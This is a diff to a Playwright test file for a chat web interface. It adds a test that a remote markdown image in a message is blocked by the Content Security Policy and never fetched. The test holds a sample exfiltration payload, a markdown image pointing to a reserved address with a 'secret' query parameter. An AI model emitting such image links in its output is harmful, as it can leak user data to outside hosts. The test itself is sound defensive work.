@@ -7,9 +7,10 @@ import struct
 import zlib
 
 import pytest
-from playwright.async_api import Page, expect
+from playwright.async_api import Browser, Page, expect
 
 from tests.web.actions import card, send, wait_idle
+from tests.web.conftest import left_origin
 
 
 def _png(width: int, height: int) -> bytes:
@@ -74,3 +75,23 @@ async def test_a_write_shows_its_content_and_read_its_range(page: Page) -> None:
     await expect(read).to_have_attribute("data-state", "completed", timeout=10_000)
     await expect(read.locator(".tool-subtitle")).to_have_text("README.md")
     await wait_idle(page)
+
+
+async def test_a_remote_image_in_model_text_is_not_fetched(browser: Browser, base_url: str) -> None:
+    context = await browser.new_context(base_url=base_url)  # the real CSP, not bypassed
+    page = await context.new_page()
+    outside = left_origin(page, base_url)
+    refused: list[str] = []
+    page.on("console", lambda m: refused.append(m.text) if "Content Security" in m.text else None)
+    session = await (await page.request.post("/session", data={})).json()
+    leak = "![x](http://192.0.2.1/leak?secret=1)"  # TEST-NET-1: never reachable anyway
+    body = {"parts": [{"type": "text", "text": leak}], "noReply": True}
+    assert (await page.request.post(f"/session/{session['id']}/message", data=body)).ok
+    await page.goto(f"/#/session/{session['id']}")
+    await expect(page.locator(".message-user img")).to_have_count(1)
+    await expect(page.locator(".message-user")).to_be_visible()
+    await page.wait_for_timeout(300)
+    await context.close()
+    assert outside == [], "the browser must not request a remote image"
+    assert any("192.0.2.1" in text for text in refused), "the policy refused the image"
+    assert any("img-src 'self' data: blob:" in text for text in refused)
